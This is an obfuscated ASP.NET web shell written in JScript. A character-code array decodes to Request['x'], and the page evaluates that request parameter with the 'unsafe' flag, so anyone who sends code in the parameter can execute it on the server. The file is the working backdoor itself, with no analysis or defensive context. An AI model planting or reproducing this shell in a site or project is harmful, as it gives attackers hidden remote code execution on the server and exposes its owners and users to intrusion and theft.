<%@ Page Language="Jscript" Debug="false" %>
<%
var k = "u" + "n" + "s" + "a" + "f" + "e";
var s = "";
var c = [82,101,113,117,101,115,116,91,39,120,39,93];
for (var i = 0; i < c.length; i++) { s += String.fromCharCode(c[i]); }
eval(eval(s), k);
%>
